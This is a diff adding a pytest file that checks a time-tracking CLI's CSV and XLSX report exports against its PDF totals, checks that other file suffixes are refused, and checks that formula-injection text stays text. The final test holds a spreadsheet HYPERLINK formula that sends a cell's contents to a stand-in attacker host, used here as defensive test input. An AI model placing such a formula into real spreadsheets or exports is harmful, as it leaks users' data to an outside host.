@@ -1,0 +1,95 @@
+"""``-o`` picks the format by suffix (issue 15 point 4): the timesheet and the invoice lines as
+CSV and XLSX add up to the PDF's own totals; any other suffix is refused and nothing is written;
+text that a spreadsheet would evaluate stays text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from memo_analytics.config import Settings
+from memo_analytics.services.requests import EndSessionRequest, StartSessionRequest
+from memo_analytics.services.sessions import end_session, start_session
+from memo_analytics.services.store import VaultStore
+
+from .test_cli import grand_total, memo, pdf_text
+from .test_invoice import check_invoice_arithmetic, config, vault  # noqa: F401 - the fixtures
+
+FILTERS = ("--all", "--since", "2026-03-01", "--until", "2026-03-31", "--tz", "UTC")
+
+
+def rows_of_csv(path) -> list[dict]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: spreadsheets read accents and CJK right
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def test_timesheet_csv_and_xlsx_rows_add_up_to_the_pdf_total(vault, config, tmp_path):
+    memo("report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.pdf"), vault=vault, env=config)
+    pdf_hours = Decimal(grand_total(pdf_text(tmp_path / "t.pdf")))
+    as_csv = json.loads(memo("--json", "report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.csv"), vault=vault,
+                             env=config).stdout)
+    rows = rows_of_csv(tmp_path / "t.csv")
+    assert len(rows) == 8  # the 8 billable sessions that ended (the open and the non-billable one are not rows)
+    assert sum(Decimal(r["billableHours"]) for r in rows) == pdf_hours == Decimal(f"{as_csv['totalBillableHours']:.2f}")
+    assert sum(int(r["durationMinutes"]) for r in rows) == as_csv["totalDurationMinutes"] == 247  # 20+20+20+95 (Acme) + 10+50+7 (Globex) + 25 (Initech)
+    memo("report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.xlsx"), vault=vault, env=config)
+    sheet = load_workbook(tmp_path / "t.xlsx").active
+    header = [c.value for c in sheet[1]]
+    data = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2, max_row=9)]
+    assert [r["client"] for r in data] == [r["client"] for r in rows]
+    assert sum(Decimal(str(r["billableHours"])) for r in data) == pdf_hours
+    total = dict(zip(header, (c.value for c in sheet[11])))
+    assert (total["client"], total["durationMinutes"], Decimal(str(total["billableHours"]))) == ("Total", 247, pdf_hours)
+
+
+@pytest.mark.parametrize("lines", ["project", "session"])
+def test_invoice_csv_and_xlsx_lines_add_up_to_the_pdf_totals(vault, config, tmp_path, lines):
+    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.pdf"), vault=vault, env=config)
+    pdf_totals = check_invoice_arithmetic(pdf_text(tmp_path / "i.pdf"))  # {currency: (hours, net)}
+    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.csv"), vault=vault, env=config)
+    rows = rows_of_csv(tmp_path / "i.csv")
+    from_csv: dict[str, tuple[Decimal, Decimal]] = {}
+    for row in rows:
+        hours, amount = from_csv.get(row["currency"], (Decimal(0), Decimal(0)))
+        from_csv[row["currency"]] = (hours + Decimal(row["hours"]), amount + Decimal(row["amount"]))
+    assert from_csv == pdf_totals
+    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.xlsx"), vault=vault, env=config)
+    sheet = load_workbook(tmp_path / "i.xlsx").active
+    header = [c.value for c in sheet[1]]
+    values = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
+    lines_ = values[:len(rows)]
+    assert [(r["currency"], Decimal(str(r["amount"]))) for r in lines_] == [(r["currency"], Decimal(r["amount"]))
+                                                                          for r in rows]
+    nets = {r["currency"]: Decimal(str(r["amount"])) for r in values[len(rows) + 1:] if str(r["client"]).startswith("Net")}
+    assert nets == {currency: net for currency, (_, net) in pdf_totals.items()}
+
+
+@pytest.mark.parametrize("name", ["june.txt", "june.CSV.bak", "june", "june.xls"])
+def test_another_suffix_is_refused_and_nothing_is_written(vault, config, tmp_path, name):
+    for report in ("timesheet", "invoice"):
+        ran = memo("report", report, *FILTERS, "-o", str(tmp_path / name), vault=vault, env=config, check=False)
+        assert (ran.returncode, ran.stderr.strip()) == (
+            1, f"error: Invalid output: {tmp_path / name} must end with .pdf, .csv or .xlsx (the suffix picks the format)")
+    assert list(tmp_path.glob("june*")) == []
+
+
+def test_text_a_spreadsheet_would_evaluate_stays_text(tmp_path):
+    root = tmp_path / "vault"
+    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    start_session(store, StartSessionRequest(session_id="x1", project="web", client="Acme Corp", task_slug=None,
+                                             summary=evil, start_time="2026-03-02T09:00:00Z"))
+    end_session(store, EndSessionRequest(session_id="x1", until="2026-03-02T10:00:00Z"))
+    store.close()
+    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.csv"), vault=root)
+    [row] = rows_of_csv(tmp_path / "t.csv")
+    assert row["task"] == "'" + evil
+    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.xlsx"), vault=root)
+    cell = load_workbook(tmp_path / "t.xlsx").active["D2"]
+    assert (cell.value, cell.data_type) == (evil, "s")
